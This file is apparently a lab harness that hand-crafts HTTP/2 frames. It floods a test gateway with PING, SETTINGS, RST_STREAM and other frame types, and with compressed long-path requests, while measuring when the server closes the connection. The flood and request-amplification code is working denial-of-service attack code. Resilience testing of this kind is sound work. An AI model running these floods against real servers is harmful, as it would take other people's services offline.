"""HTTP/2 (RFC 9113, section 4.1) by hand: floods of frames, and requests whose long path costs a byte (RFC 7541)."""
import select
import ssl
import time

import witness

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, UNKNOWN = 0, 1, 2, 3, 4, 6, 7, 8, 0x42
ACK = END_STREAM = 1
END_HEADERS = 4


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


FLOODS = {
    "PING": frame(PING, payload=bytes(8)),
    "PING ACK": frame(PING, ACK, payload=bytes(8)),
    "SETTINGS": frame(SETTINGS),
    "WINDOW_UPDATE": frame(WINDOW_UPDATE, payload=b"\0\0\0\1"),
    "PRIORITY": frame(PRIORITY, stream=3, payload=b"\0\0\0\0\x0f"),
    "RST_STREAM": frame(RST_STREAM, stream=1, payload=b"\0\0\0\x08"),
    "unknown type": frame(UNKNOWN),
}
# Windows that never fill: 2^30 for each stream, and for the connection.
OPENING = PREFACE + frame(SETTINGS, payload=b"\0\4" + (1 << 30).to_bytes(4, "big")) + frame(
    WINDOW_UPDATE, payload=(1 << 30).to_bytes(4, "big"))
# :method GET, :scheme https; then :authority and :path, which the decoder keeps (RFC 7541, sections 6.1 and 6.2.1).
GET = b"\x82\x87"
SERVED, UNSERVED = b"\x41\x09localhost", b"\x41\x09elsewhere"
KEPT = GET + b"\xbf\xbe"


def literal_path(path):
    length, size = len(path), b"\x7f"
    length -= 0x7f
    while length >= 0x80:
        size, length = size + bytes([length & 0x7f | 0x80]), length >> 7
    return b"\x44" + size + bytes([length]) + path


class Pump:
    """A TLS connection that is written to as fast as it takes it, and read meanwhile."""

    def __init__(self, tls, port, address):
        self.connection = witness.connect(tls, port, address)
        self.connection.setblocking(False)
        self.unsent, self.sent, self.closed = memoryview(b""), 0, False

    def give(self, data):
        self.unsent = memoryview(bytes(self.unsent) + data)

    def turn(self, patience=0.1):
        """Writes and reads what can be; what was read."""
        wanted = [self.connection] if self.unsent else []
        if not self.connection.pending():
            select.select([self.connection], wanted, [], patience)
        try:
            if self.unsent:
                # One TLS record at a time, so that what comes meanwhile is read.
                count = self.connection.send(self.unsent[:16384])
                self.unsent, self.sent = self.unsent[count:], self.sent + count
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            # What the gate said before is still there to be read.
            self.unsent = memoryview(b"")
        try:
            data = self.connection.recv(1 << 18)
            self.closed = not data
            return data
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return b""
        except OSError:
            self.closed = True
            return b""

    def close(self):
        self.connection.close()


class Flood:
    """One connection that sends one frame for ever. After each batch it sends a PING of its own, whose answer says that
    the gate has taken all before it."""

    SMALL, LARGE, AHEAD = 50, 4000, 8
    MARK = b"MARK"

    def __init__(self, pump, one):
        self.pump, self.one = pump, one
        self.batches, self.sizes, self.acknowledged, self.tail = 0, [], 0, b""
        pump.give(OPENING)
        if one == FLOODS["RST_STREAM"]:
            # A stream that was answered, and so is closed.
            pump.give(frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + SERVED + literal_path(b"/" + b"x" * 200)))

    def run(self, phases):
        while phases.going() and not self.pump.closed:
            if self.batches - self.acknowledged < self.AHEAD and len(self.pump.unsent) < 1 << 17:
                # Small ones at first: they tell better where it ends.
                size = self.SMALL if self.batches < 100 else self.LARGE
                self.batches += 1
                self.sizes.append(size + 1)
                mark = frame(PING, payload=self.MARK + self.batches.to_bytes(4, "big"))
                self.pump.give(self.one * size + mark)
            self.read(self.pump.turn())
        return {"frames": sum(self.sizes[:self.acknowledged]), "closed": self.pump.closed, "goaway": self.goaway()}

    def read(self, data):
        self.tail = self.tail[-64:] + data if data else self.tail
        at = self.tail.rfind(self.MARK)
        if at >= 0 and len(self.tail) >= at + 8:
            self.acknowledged = max(self.acknowledged, int.from_bytes(self.tail[at + 4:at + 8], "big"))

    def goaway(self):
        """The error code of the GOAWAY that came last (RFC 9113, section 6.8)."""
        at = self.tail.rfind(bytes([GOAWAY, 0, 0, 0, 0, 0]))
        return int.from_bytes(self.tail[at + 10:at + 14], "big") if at >= 0 else None


def flood(lab, phases_of, kind, port, address):
    """One frame, over connection after connection: a client without a certificate."""
    tls = witness.context(lab.d, protocol="h2")
    phases = phases_of()
    phases.until_attack()
    found = []
    while phases.going():
        try:
            pump = Pump(tls, port(lab), address)
        except OSError:
            continue
        found.append(Flood(pump, FLOODS[kind]).run(phases))
        pump.close()
    closed = sorted(one["frames"] for one in found if one["closed"])
    return {"frames": sum(one["frames"] for one in found), "connections": len(found), "closed": len(closed),
            "frames_until_closed": closed[len(closed) // 2] if closed else None,
            "goaway": sorted({one["goaway"] for one in found if one["goaway"] is not None})}


class Requests:
    """One connection that asks an unserved host for one long path, a hundred streams at a time; the path is sent once."""

    AT_ONCE = 100

    def __init__(self, pump, path):
        self.pump, self.stream, self.begun, self.answered, self.unread = pump, 1, 0, 0, b""
        self.first = GET + UNSERVED + literal_path(path)
        pump.give(OPENING)

    def run(self, phases):
        while phases.going() and not self.pump.closed:
            if self.begun == self.answered:
                self.ask(1 if self.begun == 0 else self.AT_ONCE)
            self.read(self.pump.turn())
        return {"requests": self.answered, "bytes": self.pump.sent}

    def ask(self, count):
        headers = []
        for _ in range(count):
            headers.append(frame(HEADERS, END_STREAM | END_HEADERS, self.stream, KEPT if self.begun else self.first))
            self.stream, self.begun = self.stream + 2, self.begun + 1
        self.pump.give(b"".join(headers))

    def read(self, data):
        self.unread += data
        at = 0
        while len(self.unread) >= at + 9:
            length = int.from_bytes(self.unread[at:at + 3], "big")
            if len(self.unread) < at + 9 + length:
                break
            kind, flags = self.unread[at + 3], self.unread[at + 4]
            self.answered += kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM
            at += 9 + length
        self.unread = self.unread[at:]


def refused(lab, phases_of, path, address):
    """Requests for a host that no route serves, over HTTP/2, without a certificate, as fast as they are answered."""
    tls = witness.context(lab.d, protocol="h2")
    phases = phases_of()
    phases.until_attack()
    total = {"requests": 0, "bytes": 0, "connections": 0}
    while phases.going():
        try:
            pump = Pump(tls, lab.gate, address)
        except OSError:
            continue
        done = Requests(pump, path).run(phases)
        pump.close()
        total = {"requests": total["requests"] + done["requests"], "bytes": total["bytes"] + done["bytes"],
                 "connections": total["connections"] + 1}
        time.sleep(0.001)
    return total
